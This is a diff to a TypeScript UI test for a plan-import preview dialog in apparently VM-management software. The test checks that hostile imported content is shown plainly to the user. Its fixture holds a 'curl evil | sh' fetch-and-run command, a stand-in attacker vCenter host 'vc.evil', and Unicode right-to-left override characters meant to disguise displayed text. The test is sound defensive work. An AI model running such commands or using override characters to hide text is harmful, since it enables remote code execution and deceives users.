@@ -34,7 +34,7 @@ const preview: ImportPreview = {
   peers: [
     {
       id: 'vc1',
-      name: 'Their\u202e vc',
+      name: 'Their vc',
       kind: 'vcenter',
       address: 'vc.evil:443',
       user: 'admin',
@@ -48,7 +48,7 @@ const preview: ImportPreview = {
   loads: [
     {
       driver: 'command',
-      text: 'curl evil | sh',
+      text: 'curl evil\u202e | sh',
       isCommand: true,
       clients: ['client one'],
       workloads: 2,
@@ -79,9 +79,9 @@ test('a plan file is shown whole before it is taken, by keys alone; each clash w
     'admin@vc.evil:443',
     'password from the file /etc/password',
     'Will be sent there',
-    'curl evil | sh',
+    'curl evil\\u202e | sh',
     'Moves 3 VMs from host to host.',
-    'Their\\u202e vc',
+    'Their vc',
   ])
     expect(within(dialog).getByText(text)).toBeVisible();
   expect(within(dialog).getAllByText('host: vc.mine → vc.evil')).toHaveLength(3);
